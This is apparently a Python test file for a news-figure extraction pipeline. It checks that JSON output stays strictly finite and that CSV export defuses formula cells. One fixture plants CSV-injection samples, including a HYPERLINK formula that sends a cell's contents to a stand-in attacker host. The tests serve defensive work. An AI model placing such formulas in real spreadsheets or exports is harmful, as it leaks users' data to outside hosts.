"""Valid JSON out, safe CSV out (issue 13, guarantee 6).

No ``Infinity`` or ``NaN`` in any output: a figure whose number overflows a float is
dropped from its record with a warning, every writer writes strict JSON, and a record
holding a number that is not finite is not a valid record. CSV cells that a spreadsheet
would run as formulas are neutralised; JSONL, Parquet and DuckDB keep the raw text.
"""

from __future__ import annotations

import csv
import json
import logging
import math
from pathlib import Path

import pytest
from pydantic import ValidationError

from pipelines.cli import main
from pipelines.output import dumps
from pipelines.records import Record
from pipelines.tables import load_records

PROSE = (
    "Năm 2024, tỉnh Quảng Trị đã hỗ trợ xây dựng 261 mô hình sản xuất cho người dân trong "
    "toàn tỉnh. Tổng doanh thu đạt {big} đồng, tăng 12,6% so với năm trước. Tỷ lệ hộ nghèo "
    "giảm còn 3,2% theo kế hoạch của Ủy ban nhân dân tỉnh.\n"
)


def _strict(text: str) -> object:
    def refuse(constant: str) -> None:
        raise AssertionError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def test_a_figure_that_overflows_is_dropped_with_a_warning(tmp_path: Path, caplog) -> None:
    """Before: ``"value":Infinity`` in the output, which strict JSON readers refuse."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    # 400 digits with a decimal comma, and 120 thousands groups: both read as infinity.
    (inputs / "digits.txt").write_text(PROSE.format(big="9" * 400 + ",5 tỷ"), encoding="utf-8")
    (inputs / "groups.txt").write_text(PROSE.format(big=".".join(["999"] * 120)), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    with caplog.at_level(logging.WARNING, logger="pipelines.records"):
        assert main(["extract", str(inputs), "-o", str(out), "-q"]) == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2
    for line in lines:
        record = _strict(line)
        assert [(f["text"], f["value"]) for f in record["figures"]] == [
            ("261 mô hình", 261.0),
            ("12,6%", 12.6),
            ("3,2%", 3.2),
        ]
    warnings = [r.getMessage() for r in caplog.records if "dropped" in r.getMessage()]
    assert len(warnings) == 2
    assert any("digits.txt" in w and "'99999" in w for w in warnings)
    assert any("groups.txt" in w and "'999.999." in w for w in warnings)


def test_no_writer_and_no_record_holds_a_number_that_is_not_finite(
    tmp_path: Path, caplog
) -> None:
    with pytest.raises(ValueError):
        dumps({"value": math.inf})
    with pytest.raises(ValueError):
        dumps({"value": math.nan})
    line = {
        "id": "x",
        "text": "Có 5 hộ.",
        "initiatives": [],
        "models": [],
        "entities": [],
        "figures": [
            {
                "text": "5 hộ", "value": 5.0, "of": None, "unit": "hộ", "qualifier": "=",
                "start": 3, "end": 7, "sentence": "Có 5 hộ.",
            }
        ],
    }  # fmt: skip
    good = Record.model_validate(line)
    assert _strict(good.to_json())["figures"][0]["value"] == 5.0
    for bad in (math.inf, -math.inf, math.nan):
        with pytest.raises(ValidationError, match="finite"):
            Record.model_validate({**line, "figures": [{**line["figures"][0], "value": bad}]})
    # A file written by an earlier version, with Infinity in it: that line is skipped,
    # named, and the others are read.
    old = tmp_path / "old.jsonl"
    infinite = good.to_json().replace('"value":5.0', '"value":Infinity')
    old.write_text(f"{good.to_json()}\n{infinite}\n", encoding="utf-8")
    with caplog.at_level(logging.WARNING):
        assert [r.id for r in load_records(old)] == ["x"]
    assert f"{old}:2: skipped" in caplog.text and "finite" in caplog.text


@pytest.fixture(scope="module")
def hostile_records(tmp_path_factory, articles_dir: Path) -> Path:
    """The seeds' records with text fields a spreadsheet would run, and a negative figure."""
    tmp = tmp_path_factory.mktemp("hostile")
    out = tmp / "records.jsonl"
    assert main(["extract", str(articles_dir), "-o", str(out), "-q"]) == 0
    record = max(load_records(out), key=lambda r: len(r.figures))
    figure = record.figures[0].model_copy(update={"value": -5.0, "measure": "@SUM(A1:A9)"})
    hostile = record.model_copy(
        update={
            "id": "=1+1",
            "title": '=HYPERLINK("http://evil.example/?q="&A1,"xem")',
            "author": "+84 912 345 678",
            "url": "-2+3",
            "site": "\tcmd",
            "figures": [figure, *record.figures[1:]],
        }
    )
    out.write_text(hostile.to_json() + "\n", encoding="utf-8")
    return out


def test_csv_cells_that_start_a_formula_are_neutralised(
    tmp_path: Path, hostile_records: Path
) -> None:
    """Before: ``=HYPERLINK(…)`` went into articles.csv as is, and a spreadsheet ran it."""
    out = tmp_path / "csv"
    assert main(["export", "--input", str(hostile_records), "--format", "csv", "--output", str(out)]) == 0
    with (out / "articles.csv").open(encoding="utf-8", newline="") as fp:
        (article,) = list(csv.DictReader(fp))
    assert article["article_id"] == "'=1+1"
    assert article["title"] == '\'=HYPERLINK("http://evil.example/?q="&A1,"xem")'
    assert article["author"] == "'+84 912 345 678"
    assert article["url"] == "'-2+3"
    assert article["site"] == "'\tcmd"
    assert article["n_figures"].isdigit()  # numbers are not touched
    with (out / "figures.csv").open(encoding="utf-8", newline="") as fp:
        first = next(csv.DictReader(fp))
    assert first["value"] == "-5.0"  # a negative number stays a number
    assert first["qualifier"] in ("=", "~", ">", ">=", "<", "<=")  # fixed symbols stay
    assert first["measure"] == "'@SUM(A1:A9)"
    assert first["article_id"] == "'=1+1"


def test_parquet_and_duckdb_keep_the_raw_text(tmp_path: Path, hostile_records: Path) -> None:
    import duckdb
    import pandas as pd

    pq_dir, db = tmp_path / "pq", tmp_path / "news.duckdb"
    assert main(["export", "--input", str(hostile_records), "--format", "parquet", "--output", str(pq_dir)]) == 0
    assert main(["export", "--input", str(hostile_records), "--format", "duckdb", "--output", str(db)]) == 0
    articles = pd.read_parquet(pq_dir / "articles.parquet")
    assert articles.loc[0, "title"].startswith("=HYPERLINK(")
    assert articles.loc[0, "article_id"] == "=1+1"
    con = duckdb.connect(str(db), read_only=True)
    try:
        title, author = con.execute('SELECT title, author FROM "articles"').fetchone()
        value, measure = con.execute('SELECT value, measure FROM "figures" LIMIT 1').fetchone()
    finally:
        con.close()
    assert title.startswith("=HYPERLINK(") and author == "+84 912 345 678"
    assert (value, measure) == (-5.0, "@SUM(A1:A9)")
    assert _strict(hostile_records.read_text(encoding="utf-8"))["id"] == "=1+1"
